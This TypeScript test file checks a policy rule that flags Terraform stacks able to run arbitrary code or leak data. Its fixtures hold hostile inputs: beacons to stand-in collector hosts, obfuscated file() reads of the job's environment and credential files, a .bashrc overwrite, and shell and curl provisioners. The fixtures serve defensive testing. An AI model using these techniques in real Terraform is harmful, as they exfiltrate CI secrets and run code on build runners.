import { noArbitraryCode } from "../../policy/rules/arbitrary-code";
import { StackView } from "../../policy/stack";

const view = (json: Record<string, unknown>) => new StackView("fixture", json);

describe("APIGW-NO-ARBITRARY-CODE", () => {
  test.each<[string, Record<string, unknown>, string[]]>([
    ["compliant: resources and data sources only", { resource: { aws_sqs_queue: { q: { name: "q" } } }, data: { aws_caller_identity: { me: {} } } }, []],
    ["compliant: HashiCorp's providers, by short and full source", { terraform: { required_providers: { aws: { source: "aws", version: "6.25.0" }, tfe: { source: "hashicorp/tfe" }, random: { source: "registry.terraform.io/hashicorp/random" } } } }, []],
    ["compliant: a terraform_data resource and a check block's AWS data source", { resource: { terraform_data: { v: { input: "1" } } }, check: { api: { data: { aws_api_gateway_rest_api: { a: { name: "x" } } } } } }, []],
    ["not applicable: an empty stack", {}, []],
    ["insecure: an http data source", { data: { http: { beacon: { url: "https://collector.example.com/?d=${data.aws_caller_identity.me.arn}" } } } }, ["data.http.beacon"]],
    ["insecure: a local_file data source", { data: { local_file: { creds: { filename: "/home/runner/.terraform.d/credentials.tfrc.json" } } } }, ["data.local_file.creds"]],
    ["insecure: a provider from another namespace", { terraform: { required_providers: { aws: { source: "evil-corp/aws", version: "1.0.0" } } } }, ["terraform.required_providers.aws"]],
    ["insecure: a provider from another registry", { terraform: { required_providers: { aws: { source: "registry.example.com/hashicorp/aws" } } } }, ["terraform.required_providers.aws"]],
    ["insecure: HashiCorp's dns provider, and its data source", { terraform: { required_providers: { dns: { source: "hashicorp/dns" } } }, data: { dns_a_record_set: { x: { host: "leak.example.com" } } } }, ["data.dns_a_record_set.x", "terraform.required_providers.dns"]],
    ["insecure: a tls_certificate data source (fetches any URL)", { data: { tls_certificate: { x: { url: "https://collector.example.com" } } } }, ["data.tls_certificate.x"]],
    ["insecure: a local_file resource (writes the runner's files)", { resource: { local_file: { f: { filename: "/home/runner/.bashrc", content: "x" } } } }, ["local_file.f"]],
    ["insecure: an http data source inside a check block", { check: { probe: { data: { http: { y: { url: "https://collector.example.com/" } } } } } }, ["check.probe.data.http.y"]],
    ["insecure: a function invoked at plan time", { data: { aws_lambda_invocation: { x: { function_name: "other", input: "{}" } } } }, ["data.aws_lambda_invocation.x"]],
    ["insecure: another workspace's state", { data: { terraform_remote_state: { s: { backend: "remote", config: {} } } } }, ["data.terraform_remote_state.s"]],
    ["insecure: an ephemeral function invocation", { ephemeral: { aws_lambda_invocation: { x: { function_name: "other", input: "{}" } } } }, ["ephemeral.aws_lambda_invocation.x"]],
    ["insecure: an http data source in a check block, every level an array", { check: [{ probe: [{ data: [{ http: { y: { url: "https://collector.example.com/" } } }] }] }] }, ["check.probe.data.http.y"]],
    ["insecure: file() with a space before its parenthesis", { output: { e: { value: '${file ("/proc/self/environ")}' } } }, ["output"]],
    ["insecure: file() with a tab before its parenthesis, in a local", { locals: { e: '${file\t("/proc/self/environ")}' } }, ["locals"]],
    ["insecure: file() with a line comment and a newline before its parenthesis", { output: { e: { value: '${file // c\n("/proc/self/environ")}' } } }, ["output"]],
    ["insecure: file() in a template directive", { output: { e: { value: '%{ if file("/proc/self/environ") != "" }x%{ endif }' } } }, ["output"]],
    // Quoted strings inside an expression are not skipped: a template in one is evaluated too.
    ["insecure: file() with a space, in a template inside a quoted string", { output: { e: { value: '${"${file ("/proc/self/environ")}"}' } } }, ["output"]],
    ["insecure: file() behind a conditional whose strings hold quotes of their own", { output: { e: { value: '${"${"a" == "b" ? "" : file ("/proc/self/environ")}"}' } } }, ["output"]],
    ["insecure: file() after a backslash (no escape for Terraform)", { output: { e: { value: '\\${file("/proc/self/environ")}' } } }, ["output"]],
    ["insecure: file() in an object key (Terraform's JSON syntax evaluates keys as templates)", { resource: { aws_sqs_queue: { q: { name: "q", tags: { '${file("/proc/self/environ")}': "x" } } } } }, ["resource"]],
    ["insecure: a removed block with a destroy-time provisioner", { removed: [{ from: "aws_sqs_queue.q", lifecycle: { destroy: false }, provisioner: [{ "local-exec": { when: "destroy", command: "id" } }] }] }, ["removed.aws_sqs_queue.q"]],
    ["insecure: file() in a template inside a quoted string of an expression", { output: { e: { value: '${upper("${file("/proc/self/environ")}")}' } } }, ["output"]],
    ["insecure: core::file() with a comment before its parenthesis", { output: { e: { value: '${core::file/**/("/proc/self/environ")}' } } }, ["output"]],
    ["insecure: data archive_file of the job's environment", { data: { archive_file: { env: { type: "zip", source_file: "/proc/self/environ", output_path: "x.zip" } } } }, ["data.archive_file.env"]],
    ["insecure: data archive_file of a directory above the stack", { data: { archive_file: { up: { type: "zip", source_dir: "${path.module}/../../..", output_path: "x.zip" } } } }, ["data.archive_file.up"]],
    ["insecure: data archive_file of a path given by an expression", { data: { archive_file: { v: { type: "zip", source_dir: "${var.dir}", output_path: "x.zip" } } } }, ["data.archive_file.v"]],
    ["compliant: data archive_file of inline content and of the stack's own assets", { data: { archive_file: { inline: { type: "zip", source: [{ content: "exports.handler = async () => 1;", filename: "index.js" }], output_path: "inline.zip" }, assets: { type: "zip", source_dir: "${path.module}/assets/hello-src", output_path: "${path.module}/hello.zip" } } } }, []],
    ["insecure: an output of the job's environment through file()", { output: { e: { value: '${base64encode(file("/proc/self/environ"))}' } } }, ["output"]],
    ["insecure: templatefile() in a resource", { resource: { aws_sqs_queue: { q: { name: '${templatefile("/home/runner/.aws/credentials", {})}' } } } }, ["resource"]],
    ["insecure: another workspace's outputs", { data: { tfe_outputs: { prod: { organization: "acme", workspace: "apigw-prod" } } } }, ["data.tfe_outputs.prod"]],
    ["insecure: an import of an existing API key", { import: [{ to: "aws_api_gateway_api_key.theirs", id: "k1l2m3n4o5" }] }, ["import.aws_api_gateway_api_key.theirs"]],
    ["compliant: a resource named like a file function", { resource: { aws_sqs_queue: { q: { name: "profile(1)" } } } }, []],
    ["insecure: a module block", { module: { vpc: { source: "git::https://example.com/vpc.git" } } }, ["module.vpc"]],
    ["insecure: an external data source", { data: { external: { probe: { program: ["sh", "-c", "env"] } } } }, ["data.external.probe"]],
    ["insecure: a local-exec provisioner", { resource: { terraform_data: { run: { provisioner: [{ "local-exec": { command: "curl example.com" } }] } } } }, ["terraform_data.run"]],
  ])("%s", (_name, json, expected) => {
    expect(noArbitraryCode.severity).toBe("error");
    expect(noArbitraryCode.check(view(json)).map((v) => v.address)).toEqual(expected);
  });
});
